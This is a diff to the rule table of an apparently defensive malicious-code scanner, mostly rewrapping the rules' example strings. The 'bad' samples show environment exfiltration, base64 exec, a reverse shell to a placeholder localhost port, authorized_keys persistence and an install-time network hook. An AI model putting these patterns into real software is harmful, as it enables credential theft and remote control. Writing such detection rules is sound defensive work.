@@ -13,8 +13,10 @@ RULES: tuple[Rule, ...] = (
         Confidence.HIGH,
         "The whole environment, or a file that holds keys or passwords, flows into a request. A single variable in a "
         "header is how credentials are used, and not meant.",
-        bad="import json, os, requests\n\ndef report(url):\n    requests.post(url, data=json.dumps(dict(os.environ)))\n",
-        good="import os, requests\n\ndef report(url, data):\n    headers = {'Authorization': os.environ['TOKEN']}\n"
+        bad="import json, os, requests\n\ndef report(url):\n"
+        "    requests.post(url, data=json.dumps(dict(os.environ)))\n",
+        good="import os, requests\n\ndef report(url, data):\n"
+        "    headers = {'Authorization': os.environ['TOKEN']}\n"
         "    requests.post(url, json=data, headers=headers)\n",
         cwe=(200, 506),
     ),
@@ -45,7 +47,7 @@ RULES: tuple[Rule, ...] = (
         Confidence.HIGH,
         "Code is encoded in source for one reason: that nobody reads it.",
         bad="import base64\n\nexec(base64.b64decode('cHJpbnQoIm1hcmtlciIpICMgaGFybWxlc3M='))\n",
-        good="import base64\n\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk')\n",
+        good="import base64\n\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ')\n",
         cwe=(506, 94),
     ),
     Rule(
@@ -56,7 +58,8 @@ RULES: tuple[Rule, ...] = (
         "A process whose streams are a network connection obeys whoever is at the other end.",
         bad="import os, pty, socket\n\ndef go():\n    s = socket.create_connection(('127.0.0.1', 9))\n"
         "    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n",
-        good="import socket\n\ndef go():\n    with socket.create_connection(('127.0.0.1', 9)) as s:\n        s.sendall(b'ping')\n",
+        good="import socket\n\ndef go():\n    with socket.create_connection(('127.0.0.1', 9)) as s:\n"
+        "        s.sendall(b'ping')\n",
         cwe=(506,),
     ),
     Rule(
@@ -65,7 +68,8 @@ RULES: tuple[Rule, ...] = (
         Severity.HIGH,
         Confidence.MEDIUM,
         "Writes to shell profiles, authorized_keys, cron, units or hooks outlive the program that does it.",
-        bad="import os\n\ndef setup(key):\n    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n        f.write(key)\n",
+        bad="import os\n\ndef setup(key):\n"
+        "    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:\n        f.write(key)\n",
         good="def setup(path, text):\n    with open(path, 'a') as f:\n        f.write(text)\n",
         cwe=(506,),
     ),
@@ -115,9 +119,12 @@ RULES: tuple[Rule, ...] = (
         Severity.HIGH,
         Confidence.MEDIUM,
         "Commands of setup.py run on the machine that installs, before anybody has imported anything.",
-        bad="import urllib.request\nfrom setuptools.command.install import install\n\nclass Install(install):\n"
-        "    def run(self):\n        urllib.request.urlopen('http://127.0.0.1:9/')\n        install.run(self)\n",
-        good="from setuptools.command.install import install\n\nclass Install(install):\n    def run(self):\n        install.run(self)\n",
+        bad="import urllib.request\nfrom setuptools.command.install import install\n\n"
+        "class Install(install):\n"
+        "    def run(self):\n        urllib.request.urlopen('http://127.0.0.1:9/')\n"
+        "        install.run(self)\n",
+        good="from setuptools.command.install import install\n\nclass Install(install):\n"
+        "    def run(self):\n        install.run(self)\n",
         cwe=(506, 829),
     ),
     Rule(
